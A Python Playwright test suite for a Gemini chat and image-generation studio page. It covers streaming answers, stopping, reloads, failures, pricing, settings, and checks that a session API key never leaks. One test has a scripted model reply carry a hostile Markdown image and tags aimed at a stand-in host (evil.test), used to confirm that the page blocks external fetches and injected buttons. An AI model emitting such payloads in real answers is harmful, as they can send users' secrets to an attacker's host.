"""With a key, against the strict server: streaming, pictures, Stop, reload, failures, the key of a session."""

from __future__ import annotations

import re
import urllib.request
from pathlib import Path
from typing import Any

from playwright.sync_api import Locator, Page, Request, expect

from tests.page import PageProcess
from tests.page.hands import (
    attach,
    begin_anew,
    choose_setting,
    close_settings,
    composer,
    expect_loaded,
    expect_pictures,
    expect_rest,
    open_page,
    open_settings,
    pictures,
    place_of,
    say,
)
from tests.page.journeys import Called, on, step
from tests.support.waiting import wait_until
from tests.wire_server import GeminiProcess

CANARY = "AIzaSyCANARY-of-the-session-9876"


def words(text: str, chunks: int = 10) -> dict[str, Any]:
    return {"kind": "Text", "text": text, "chunks": chunks}


def paint(count: int = 1, ratio: str = "3:2") -> dict[str, Any]:
    arguments = {"prompt": "A red fox in snow", "aspect_ratio": ratio, "number_of_images": count}
    return {"kind": "Call", "name": "generate_image", "args": arguments, "text_before": "I paint it now."}


def held(answer: dict[str, Any], after_chunks: int = 1) -> dict[str, Any]:
    return {"kind": "Hold", "answer": answer, "after_chunks": after_chunks}


def shape(frame: Locator) -> float:
    """Return how wide a frame is for its height."""
    box = place_of(frame)
    return box["width"] / box["height"]


def expect_offered(page: Page, ratio: str, count: int) -> None:
    """Wait until a ratio is offered so many times: after a model is chosen, Python sends the ratios that it obeys."""
    ratios = open_settings(page).locator("#aspect-ratio")
    expect(ratios.get_by_role("radio", name="16:9", exact=True)).to_have_count(1)
    expect(ratios.get_by_role("radio", name=ratio, exact=True)).to_have_count(count)
    close_settings(page)


def script_anew(gemini: GeminiProcess) -> None:
    """Forget what was scripted and asked for, none of which broke a rule."""
    gemini.control(release=True)
    assert gemini.read("violations") == []
    gemini.control(clear=True)


def what_is_chosen_is_what_the_model_is_asked_for_and_the_price_follows_it(
    page: Page, gemini: GeminiProcess, photo: Path
) -> None:
    called = Called(page)
    with step("the price follows what is added, and not every letter"):
        asked: list[str] = []

        def note(request: Request) -> None:
            if "/aivista/act/page.price" in request.url:
                asked.append(request.post_data or "")

        page.on("request", note)
        price = page.locator("#cost .price")
        expect(price).to_have_attribute("data-beside", "")
        told, before = price.get_attribute("title"), len(asked)
        composer(page).press_sequentially("a red fox in the snow", delay=20)
        # The page looks three times a second whether to ask; that it has looked and asked nothing shows nowhere.
        page.wait_for_timeout(1_000)
        assert asked[before:] == []
        page.remove_listener("request", note)
    with step("the price follows the very first setting that is changed, and the way back"):
        choose_setting(page, "count", "4")
        expect(price).to_have_attribute("title", re.compile("4 pictures, "))
        called.button("composer.reset").click()
        expect(price).to_have_attribute("title", re.compile("1 picture, "))
    with step("the price follows files and long words"):
        attach(page, photo)
        expect(price).to_have_attribute("data-beside", re.compile('"files":1,"marked":0,"masks":0'))
        assert price.get_attribute("title") != told
        composer(page).fill("x" * 1200)
        expect(price).to_have_attribute("data-beside", re.compile('"characters":1000,"files":1'))
        gemini.control(on_text=[words("Fine.", chunks=1)])
        say(page, "what is this?")
        expect_rest(page)
        expect(price).to_have_attribute("data-beside", "")
        # What was said before makes the maximum a little higher.
        now = price.get_attribute("title")
        assert (now or "").splitlines()[1:-1] == (told or "").splitlines()[1:-1]
    with step("an example fills the composer and is not sent"):
        begin_anew(page)
        page.get_by_role("button").filter(has_text=called.words("example.fox")).click()
        expect(composer(page)).to_have_value(called.words("example.fox_text"))
        expect(page.locator("#chat .user")).to_have_count(0)
    with step("only what the chosen model obeys is offered"):
        expect_offered(page, "1:8", 0)
        choose_setting(page, "image-model", "Flash")
        expect_offered(page, "1:8", 1)
    with step("the locks of the chips reach the model"):
        gemini.control(clear=True, on_text=[paint(count=3, ratio="3:2")])
        settings = open_settings(page)
        settings.locator("#image-models").get_by_role("button", name="Pro").click()
        # The ratios that Pro does not obey go: others stand in their places then.
        expect(settings.get_by_role("radio", name="1:8", exact=True)).to_have_count(0)
        for value in ("4:5", "2K", "2"):
            settings.get_by_role("radio", name=value, exact=True).check()
        expect(page.locator("[data-aid=setup]")).to_have_text("Pro · 4:5 · 2K · 2")
        # The ring stands around the box: the field in it has none of its own.
        field = settings.locator("#avoid").get_by_role("textbox")
        field.focus()
        expect(field).to_have_css("box-shadow", "none")
        close_settings(page)
        say(page, "a fox")
        expect_pictures(page, 2)
        painted = [request for request in gemini.read("requests") if request["kind"] == "image"]
        assert [request["model"] for request in painted] == ["gemini-3-pro-image"] * 2


def an_answer_is_followed_stopped_left_and_tried_again(page: Page, gemini: GeminiProcess, photo: Path) -> None:
    with step("an answer streams as Markdown"):
        gemini.control(on_text=[held(words("A **fox** it is. " * 20, chunks=20), after_chunks=4)])
        say(page, "talk to me of foxes")
        expect(page.locator("#chat .bot strong").first).to_have_text("fox")
        expect(page.locator(".live")).to_contain_text("Answering…")
        expect(on(page, "#box").button("builtin.stop")).to_be_visible()
        gemini.release()
        expect(page.locator("#chat .bot strong")).to_have_count(20)
        expect_rest(page)
    with step("what the model says of its thinking stands in the line, and folded under the answer"):
        thoughts = "**Weighing the snow**\n\nIt should be soft, <b>not</b> grey."
        gemini.control(on_text=[held(words("Soft it is.", chunks=1) | {"thoughts": thoughts}, after_chunks=1)])
        say(page, "what snow?")
        expect(page.locator("#chat .thought")).to_have_text("Weighing the snow")
        gemini.release()
        expect_rest(page)
        expect(page.locator("#chat .thought")).to_have_count(0)
        folded = page.locator("#chat details.thoughts").last
        folded.get_by_text("Thoughts").click()
        expect(folded.locator(".md")).to_contain_text("It should be soft, <b>not</b> grey.")
    with step("a picture from elsewhere is not fetched, nor a button made"):
        hostile = '![x](http://evil.test/?d=key) <button data-act="new">Click</button> <img src="http://evil.test/b">'
        gemini.control(on_text=[words(hostile, chunks=3)])
        say(page, "be evil")
        expect(page.locator("#chat .bot").last).to_contain_text("[image: evil.test]")
        expect_rest(page)
        expect(page.locator("#chat [data-act=new]")).to_have_count(0)
        expect(page.locator("#chat .md img")).to_have_count(0)
    with step("Stop stops, and the conversation goes on"):
        gemini.control(on_text=[held(words("never ending " * 30, chunks=30), after_chunks=3), words("Here again.")])
        say(page, "talk on and on")
        expect(page.locator("#chat .bot").last).to_contain_text("never ending")
        on(page, "#box").button("builtin.stop").click()
        expect(page.locator(".stopped")).to_be_visible()
        expect_rest(page)
        say(page, "are you there?")
        expect(page.locator("#chat")).to_contain_text("Here again.")
        expect(page.locator(".stopped")).to_be_visible()
        expect_rest(page)
    with step("a failure says who must act, and brings the words back beside what is there"):
        begin_anew(page)
        gemini.control(on_text=[{"kind": "HttpError", "status": 503}, words("Now it works.")])
        say(page, "a fox please")
        card = page.get_by_role("alert")
        expect(card).to_contain_text("What to do")
        expect(composer(page)).to_have_value("a fox please")
        composer(page).fill("")
        composer(page).press_sequentially("other words")
        attach(page, photo)
        on(card).button("action.edit_words").click()
        expect(composer(page)).to_have_value("a fox please")
        expect(page.locator("#box .thumbnail-item")).to_have_count(1)
        page.keyboard.press("Control+z")
        expect(composer(page)).to_have_value("other words")
        on(page, "#box").button("builtin.remove").click()
        on(card).button("action.retry").click()
        expect(page.locator("#chat")).to_contain_text("Now it works.")
        expect_rest(page)
        composer(page).fill("")
    with step("another conversation that is opened meanwhile is not written into"):
        begin_anew(page)
        gemini.control(on_text=[held(words("first words last words", chunks=4), after_chunks=1)])
        say(page, "a long story")
        expect(page.locator("#chat .bot")).to_contain_text("first")
        begin_anew(page)
        expect(page.locator(".welcome")).to_be_visible()
        gemini.release()
        page.locator("#rail").get_by_role("button", name="a long story", exact=True).click()
        expect(page.locator("#chat .bot")).to_contain_text("last words")
        expect_rest(page)


def a_turn_is_found_again_by_a_page_that_was_loaded_anew_or_closed(page: Page, gemini: GeminiProcess) -> None:
    with step("a reload in the middle follows the turn to its end"):
        gemini.control(on_text=[held(words("one two three four five", chunks=5), after_chunks=2)])
        say(page, "count")
        expect(page.locator("#chat .bot")).to_contain_text("one")
        # The address follows the thread a moment later.
        expect(page).to_have_url(re.compile(r"\?c=\w{8,}"))
        page.reload()
        expect(page.locator("#chat .bot")).to_contain_text("one")
        expect(on(page, "#box").button("builtin.stop")).to_be_visible()
        gemini.release()
        expect(page.locator("#chat .bot")).to_contain_text("five")
        expect_rest(page)
        assert gemini.read("state")["requests"] == 1
    with step("a frame of the right shape stands before its picture"):
        gemini.control(on_text=[paint(ratio="9:16")], on_image=[held({"kind": "PictureAnswer"}, after_chunks=0)])
        say(page, "a tall fox")
        frame = page.locator("#chat .frame.pending")
        expect(frame).to_be_visible()
        expect(page.locator(".live")).to_contain_text("Painting a picture with")
        expect(page.get_by_role("button", name="Edit message").first).to_be_disabled()
        before = shape(frame)
    with step("a page that is closed in mid answer finds it finished"):
        address = page.url
        page.goto("about:blank")
        gemini.release()
        page.goto(address)
        expect(pictures(page)).to_have_count(1)
        expect_loaded(pictures(page).first)
        expect_rest(page)
        assert abs(before - shape(page.locator("#chat .frame"))) < 0.02


def a_key_is_tested_held_for_the_session_and_shown_nowhere(page: Page, gemini_studio: PageProcess) -> None:
    called = Called(page)
    called.button("rail.settings").click()
    dialog = page.get_by_role("dialog")
    field = dialog.get_by_role("textbox", name="Gemini API key")
    state, verdict = dialog.locator("#s-state"), dialog.locator("#s-verdict")
    with step("it is tested and saved"):
        field.fill(CANARY)
        dialog.get_by_role("button", name="Test key").click()
        expect(verdict).to_contain_text("Google accepts the key.")
        dialog.get_by_role("button", name="Save key").click()
        expect(state).to_contain_text("Using key …9876 for this session.")
        expect(field).to_have_value("")
    with step("it is there after a reload, and nowhere to be read"):
        page.reload()
        expect(page.locator("#top h1")).to_be_visible()
        called.button("rail.settings").click()
        expect(state).to_contain_text("Using key …9876 for this session.")
        with urllib.request.urlopen(f"{gemini_studio.url}/config", timeout=20) as answer:
            assert "CANARY" not in answer.read().decode()
        assert "CANARY" not in page.content()
        files = [path for path in gemini_studio.home.rglob("*") if path.is_file()]
        assert not [path for path in files if b"CANARY" in path.read_bytes()]
        assert "CANARY" not in gemini_studio.errors
    with step("it is removed"):
        dialog.get_by_role("button", name="Remove key").click()
        expect(state).to_contain_text("Using the studio’s own key")


def test_a_picture_and_an_answer_of_a_model_are_asked_for_followed_and_found_again_with_a_key_of_the_session(
    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess, photo: Path
) -> None:
    open_page(page, gemini_studio.url)
    an_answer_is_followed_stopped_left_and_tried_again(page, gemini, photo)
    script_anew(gemini)
    begin_anew(page)
    a_turn_is_found_again_by_a_page_that_was_loaded_anew_or_closed(page, gemini)
    script_anew(gemini)
    begin_anew(page)
    # The page takes a file of one name only once. What is chosen here stays chosen in the next conversation.
    other = photo.rename(photo.with_name("again.jpg"))
    what_is_chosen_is_what_the_model_is_asked_for_and_the_price_follows_it(page, gemini, other)
    script_anew(gemini)
    begin_anew(page)
    a_key_is_tested_held_for_the_session_and_shown_nowhere(page, gemini_studio)


def test_a_page_whose_stream_breaks_off_shows_the_turn_to_its_end_and_does_not_run_it_again(
    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
) -> None:
    open_page(page, gemini_studio.url)
    for is_away in (False, True):
        with step("back when the turn is over" if is_away else "back at once"):
            gemini.control(clear=True, on_text=[paint()], on_image=[held({"kind": "PictureAnswer"}, after_chunks=0)])
            begin_anew(page)
            say(page, "draw a castle on a hill")
            expect(page.locator("#chat .frame.pending")).to_have_count(1)
            page.context.set_offline(True)
            if is_away:
                gemini.release()
                wait_until(lambda: gemini.read("state")["held"] == 0)
                expect(page.locator("#toast")).to_contain_text("connection to the studio is lost")
            page.context.set_offline(False)
            if not is_away:
                expect(page.locator("#chat .frame.pending")).to_have_count(1)
                gemini.release()
            expect_pictures(page, 1)
            assert gemini.read("state")["requests"] == 2
            say(page, "thank you")
            expect(page.locator("#chat .user")).to_have_count(2)
            expect_rest(page)
